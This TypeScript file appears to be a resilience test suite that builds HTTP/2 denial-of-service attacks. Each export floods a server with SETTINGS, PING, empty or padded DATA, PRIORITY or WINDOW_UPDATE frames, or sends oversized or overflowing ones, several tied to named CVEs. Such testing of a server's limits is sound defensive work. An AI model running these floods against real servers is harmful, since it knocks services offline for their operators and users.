import {
  flags,
  frame,
  goaway,
  ping,
  reset,
  settings,
  uint32,
  windowUpdate,
} from '../support/http2-frames.ts';
import { waitUntil } from '../support/wait-until.ts';
import { onConnection } from './attack.ts';
import { begin, call, data, streamId } from './hostile-frames.ts';

/** More than any limit allows. */
const many = 50_000;

const emptySettings = settings();
const windowOfNothing: readonly [number, number][] = [[4, 0]];

/** CVE-2019-9515. */
export const settingsFlood = onConnection({ name: 'SETTINGS flood', unit: 'SETTINGS' }, async (client) => {
  const sent = await client.flood(many, () => emptySettings);
  await client.ended();
  return sent;
});

export const settingsUnread = onConnection(
  { name: 'SETTINGS flood, acks not read', unit: 'SETTINGS', reads: false },
  async (client) => {
    const sent = await client.flood(many, () => emptySettings);
    client.read();
    await client.ended();
    return sent;
  },
);

/** A window that opens and closes moves the windows of all streams, each time. */
export const windowsUpAndDown = onConnection(
  { name: 'SETTINGS that move 1,000 windows', unit: 'SETTINGS', settings: windowOfNothing },
  async (client) => {
    await client.flood(1_000, (index) => call(streamId(index)));
    await waitUntil('the heads of the answers', () => client.count('HEADERS') === 1_000);
    const sent = await client.flood(many, (index) => settings([4, index % 2]));
    await client.ended();
    return sent;
  },
);

/** Of a message of 4 MB that is on its way. */
const largePrefix = Buffer.of(0, 0, 0x3d, 0x09, 0x00);
const pingAndOctet = Buffer.concat([ping(), data(1, Buffer.of(0), false)]);

/** CVE-2019-9512. With octets of a request between them, since PING alone are ended sooner. */
export const pingFlood = onConnection({ name: 'PING flood', unit: 'PING' }, async (client) => {
  await client.send(begin(1), data(1, largePrefix, false));
  const sent = await client.flood(many, () => pingAndOctet);
  await client.ended();
  return sent;
});

export const pingsUnread = onConnection(
  { name: 'PING flood, acks not read', unit: 'PING', reads: false },
  async (client) => {
    await client.send(begin(1), data(1, largePrefix, false));
    const sent = await client.flood(many, () => pingAndOctet);
    client.read();
    await client.ended();
    return sent;
  },
);

/** Keep-alive that is too eager. */
export const idlePings = onConnection({ name: 'PING without calls', unit: 'PING' }, async (client) => {
  const sent = await client.flood(many, () => ping());
  await client.ended();
  return sent;
});

/** CVE-2019-9518. */
export const emptyData = onConnection({ name: 'Empty DATA', unit: 'DATA' }, async (client) => {
  await client.send(begin(1));
  const sent = await client.flood(many, () => data(1, Buffer.alloc(0), false));
  await client.ended();
  return sent;
});

/** The same with padding, so that they are not small. */
export const paddedData = onConnection({ name: 'DATA of padding', unit: 'DATA' }, async (client) => {
  await client.send(begin(1));
  const padding = frame('DATA', flags.PADDED, 1, Buffer.concat([Buffer.of(255), Buffer.alloc(255)]));
  const sent = await client.flood(many, () => padding);
  await client.ended();
  return sent;
});

/** A priority of five octets, on nothing. */
const priority = Buffer.concat([uint32(0), Buffer.of(15)]);

/** CVE-2019-9513. */
export const priorities = onConnection({ name: 'PRIORITY flood', unit: 'PRIORITY' }, async (client) => {
  const sent = await client.flood(many, (index) => frame('PRIORITY', 0, streamId(index % 100), priority));
  await client.ended();
  return sent;
});

export const windowUpdates = onConnection(
  { name: 'WINDOW_UPDATE flood', unit: 'WINDOW_UPDATE' },
  async (client) => {
    const sent = await client.flood(many, () => windowUpdate(0, 1));
    await client.ended();
    return sent;
  },
);

/** Each looks at 1,000 answers that wait for a window of their own. */
export const windowUpdatesForNothing = onConnection(
  { name: 'WINDOW_UPDATE flood, 1,000 answers held', unit: 'WINDOW_UPDATE', settings: windowOfNothing },
  async (client) => {
    await client.flood(1_000, (index) => call(streamId(index)));
    await waitUntil('the heads of the answers', () => client.count('HEADERS') === 1_000);
    const sent = await client.flood(many, () => windowUpdate(0, 1));
    await client.ended();
    return sent;
  },
);

/** What costs no more than to be read: acks that nobody asked for, types that nobody knows, resets of what has ended. */
export const ignoredFrames = onConnection(
  { name: 'Frames that mean nothing', unit: 'frames' },
  async (client) => {
    await client.send(call(1));
    await waitUntil('the answer', () => client.count('DATA') === 1);
    const kinds = [
      ping('nobody..', flags.ACK),
      frame('SETTINGS', flags.ACK, 0),
      frame(99, 0, 0, Buffer.alloc(16)),
      reset(1),
      goaway(),
    ];
    return client.flood(4 * many, (index) => kinds[index % kinds.length] as Buffer);
  },
);

/** CVE-2020-11080. */
export const largeSettings = onConnection(
  { name: 'SETTINGS of 2,400 entries', unit: 'SETTINGS' },
  async (client) => {
    const entries = Array.from({ length: 2_400 }, (): [number, number] => [4, 65_535]);
    const sent = await client.flood(many, () => settings(...entries));
    await client.ended();
    return sent;
  },
);

/**
 * CVE-2026-21714, CVE-2026-48937 and CVE-2026-27135: a window above 2^31-1, which ends the connection; and behind it, in the
 * same packet, whatever would be a fault as well.
 */
export const windowOverflow = onConnection(
  { name: 'A window above 2^31-1, and more behind it', unit: 'WINDOW_UPDATE' },
  async (client) => {
    const tooLarge = frame('DATA', 0, 1).fill(0xff, 0, 3);
    await client.send(windowUpdate(0, 0x7fff_ffff), begin(1), ping(), call(3), tooLarge);
    await client.ended();
    return 1;
  },
);
